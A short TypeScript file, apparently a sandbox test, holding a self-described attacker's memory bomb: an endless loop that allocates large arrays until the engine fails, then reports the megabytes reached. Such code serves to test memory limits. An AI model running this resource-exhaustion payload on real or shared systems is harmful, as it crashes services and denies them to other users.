// An attacker's JavaScript memory bomb: grows until the engine refuses, then reports how far it got.
export default async function () {
  const hoard: string[][] = []
  let bytes = 0
  try {
    for (;;) {
      hoard.push(new Array(1 << 16).fill('x'.repeat(64)))
      bytes += 1 << 19
    }
  } catch (e) {
    return { reached_mb: bytes >> 20, error: String(e) }
  }
}
